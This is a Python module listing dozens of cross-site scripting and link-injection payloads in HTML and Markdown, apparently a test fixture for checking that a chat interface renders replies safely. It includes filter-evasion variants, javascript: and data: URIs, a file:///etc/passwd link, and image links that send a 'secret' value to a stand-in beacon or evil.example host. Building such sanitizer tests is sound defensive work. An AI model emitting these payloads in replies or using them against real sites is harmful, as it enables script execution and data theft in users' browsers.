"""What people try in order to run a script in a chat window, or to make it fetch something.

`{beacon}` stands for an address that nobody may ask.
"""

from __future__ import annotations

HTML = (
    "<script>fetch('{beacon}')</script>",
    "<script src={beacon}></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src={beacon}>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src={beacon}>",
    "<video><source onerror=alert(1)></video>",
    "<video poster={beacon}></video>",
    "<audio src={beacon} autoplay>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url={beacon}'>",
    "<base href='{beacon}/'>",
    "<link rel=stylesheet href={beacon}>",
    "<style>@import '{beacon}';</style>",
    "<style>*{background:url({beacon})}</style>",
    "<p style='background:url({beacon})'>x</p>",
    "<p onclick=alert(1) id=x class=y>x</p>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "'\"><script>alert(1)</script>",
    "</div></div><script>alert(1)</script>",
    "<x onmouseover=alert(1)>hover</x>",
    "\u2028<script>alert(1)</script>\u2029",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
)
"""As HTML, in every disguise."""

MARKDOWN = (
    "![x]({beacon}?d=secret)",
    "![x][pic]\n\n[pic]: {beacon}",
    '![x]({beacon} "onerror=alert(1)")',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/api/widget/reset)",
    "[x](https://bank.example@evil.example/)",
    "[x][link]\n\n[link]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://evil.example/" onmouseover="alert(1))',
    "[x](https://evil.example/`onmouseover=alert(1)`)",
    "[![x]({beacon})](https://evil.example)",
    "# <img src=x onerror=alert(1)>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><img src=x onerror=alert(1)>`",
    "> <script>alert(1)</script>",
    "- <svg onload=alert(1)>",
    "1. [x](javascript:alert`1`)",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| c | d |",
    "https://evil.example/<script>alert(1)</script>",
    'https://evil.example/"onmouseover="alert(1)',
    "javascript:alert(1)//https://help.shop.example",
    "mailto:ann@mail.example?body=<script>alert(1)</script>",
)
"""As Markdown, which replies are written in."""

PAYLOADS = (*HTML, *MARKDOWN)


def payloads(beacon: str = "https://beacon.example/b") -> list[str]:
    """All of them, with the beacon's address."""
    return [text.replace("{beacon}", beacon) for text in PAYLOADS]
